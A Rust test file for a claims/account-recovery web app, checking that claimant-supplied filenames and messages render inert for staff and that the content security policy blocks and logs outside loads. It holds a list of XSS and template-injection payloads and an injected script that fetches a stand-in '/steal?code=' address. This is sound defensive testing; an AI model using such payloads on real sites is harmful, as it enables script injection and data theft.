//! SE-07: what claimants write and call their files is only text to whoever reads it.

use readmit_core::command::Role;

use super::person;
use crate::support::browser::Browser;
use crate::support::claimant::{Recovery, picture};
use crate::support::installation::Setup;
use crate::support::logs;
use crate::support::wait::until;
use crate::support::webdriver::Driver;

/// What has run scripts elsewhere, in an attribute, in text, as a template, as an address.
const HOSTILE: [&str; 6] = [
    "\"><script>document.title='run'</script>",
    "'\"><img src=x onerror=document.title='run'>",
    "<svg onload=document.title='run'>",
    "</textarea></title><iframe srcdoc='<script>parent.document.title=1</script>'>",
    "{{ 7*7 }}{% include 'x' %}${7*7}",
    "javascript:document.title='run'//\u{202e}gnp.exe",
];

/// SE-07: the case page shows it as it was written, and the browser runs, loads and blocks nothing.
#[test]
fn se_07_what_claimants_write_is_inert_for_staff() {
    Setup::default().run(async |app| {
        let mut ben = Recovery::passkey().of("ben@example.com").proven().at(app).await;
        let reference = ben.reference(app).await;
        ben.page = ben.visitor.submit(ben.page.press("begin")).await.expect(200);
        ben.page = ben.visitor.submit(ben.page.press("give_up")).await.expect(200);
        let names = HOSTILE.map(|name| format!("{}.png", name.replace('"', "%22")));
        let mut form = ben.page.press("submit");
        for (place, name) in names.iter().enumerate() {
            let slot = ["account_email", "counterparty_transaction"][place % 2];
            form = form.attach(slot, name, &picture());
        }
        ben.page = ben.visitor.submit(form).await.expect(200);
        for text in HOSTILE {
            let page = ben.visitor.get(&app.recover("/case/messages")).await.expect(200);
            ben.visitor
                .submit(page.form_to("/case/messages").with("text", text))
                .await
                .expect(200);
        }
        app.work().await;

        let driver = Driver::start();
        let rina = Browser::open(&driver).await;
        person::staff(&rina, app, "rina", Role::Reviewer).await;
        rina.press("Next case").await;
        rina.see("Checklist").await;
        for picture in 1..=HOSTILE.len() {
            rina.go(&app.staff(&format!("/cases/{reference}?picture={picture}")))
                .await;
            rina.see("onload=document.title").await;
            let source = rina.source().await;
            assert!(source.contains(&format!("<title>{reference}")), "a script ran");
            assert!(
                !source.contains("<iframe") && !source.contains("<svg onload"),
                "{source}"
            );
        }
        rina.assert_quiet_console().await;
    });
}

/// SE-05: what the policy stops on a page of either face is reported by the browser, and stands in the log by its host's
/// name, without what an address carried. Who invents reports is not believed in anything else.
#[test]
fn se_05_browsers_report_what_the_policy_stopped() {
    Setup::default().run(async |app| {
        let driver = Driver::start();
        let ada = Browser::open(&driver).await;
        for (page, host) in [
            (app.recover("/passkey-reset"), "claimants.se05.invalid"),
            (app.staff("/sign-in"), "staff.se05.invalid"),
        ] {
            ada.go(&page).await;
            let body = "const picture = document.createElement('img'); picture.src = arguments[0]; document.body.append(picture);";
            let address = format!("https://{host}/steal?code=se05secret");
            ada.session.run(body, serde_json::json!([address])).await;
            until("a report in the log", async || {
                let logs = String::from_utf8(logs::all()).ok()?;
                assert!(!logs.contains("se05secret"), "only the host's name is kept");
                let line = logs.lines().find(|line| line.contains(host))?.to_owned();
                line.contains("directive=\"img-src\"").then_some(())
            })
            .await;
        }
    });
}
